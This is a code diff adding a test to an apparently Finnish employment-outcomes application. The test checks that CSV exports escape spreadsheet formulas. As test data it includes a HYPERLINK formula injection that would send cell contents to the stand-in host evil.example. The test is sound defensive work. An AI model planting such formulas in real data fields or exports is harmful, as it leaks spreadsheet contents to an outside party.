@@ -191,3 +191,26 @@ def test_months_and_areas_add_up_without_revealing_a_small_cell(records):
     assert all(m["hires"] in (0, None) for m in published.monthly)  # 1 in April, 1 in May
     assert published.supports == {"pay_subsidy_reduced_work_ability": (None, None)}
     assert published.skilled_hours_freed_per_week is None and published.days_need_to_hire is None
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(records):
+    from kohtaanto.userdata import csv_cell
+
+    assert [csv_cell(v) for v in ("=1+1", "+358", "-x", "@SUM(A1)", "\tx", "ok", 5, -5)] == [
+        "'=1+1",
+        "'+358",
+        "'-x",
+        "'@SUM(A1)",
+        "'\tx",
+        "ok",
+        5,
+        -5,
+    ]
+    area = records["north"]
+    area.name_fi = '=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")'
+    area.save()
+    analyst = Client()
+    analyst.force_login(records["analyst"])
+    text = analyst.get(f"/outcomes.csv?area={area.pk}&start=2026-03-01&end=2026-06-30").content.decode()
+    rows = list(csv.reader(io.StringIO(text)))
+    assert all(row[4].startswith("'=") for row in rows[1:])
